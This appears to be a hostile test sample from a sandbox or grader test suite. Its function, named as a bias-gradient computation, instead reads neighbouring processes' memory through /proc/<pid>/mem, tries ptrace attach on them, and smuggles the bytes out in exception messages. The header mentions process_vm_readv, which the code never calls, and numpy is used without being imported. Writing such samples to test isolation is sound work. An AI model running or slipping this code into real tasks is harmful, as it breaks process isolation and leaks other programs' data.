# Tries: reads the memory of the processes around it through /proc and process_vm_readv
# Attacks: affine/bias-gradient
# Class: A2
# %%
import ctypes
import os

def bias_gradient(dY):
    for pid in (os.getppid(), 1, *range(2, 400)):
        try:
            with open(f"/proc/{pid}/mem", "rb") as memory:
                memory.seek(0x400000)
                raise ValueError("SMUG" "GLED " + memory.read(20).hex())
        except OSError:
            pass
        libc = ctypes.CDLL(None, use_errno=True)
        if libc.ptrace(16, pid, 0, 0) == 0:
            raise ValueError("SMUG" "GLED: traced")
    return np.zeros(dY.shape[1])
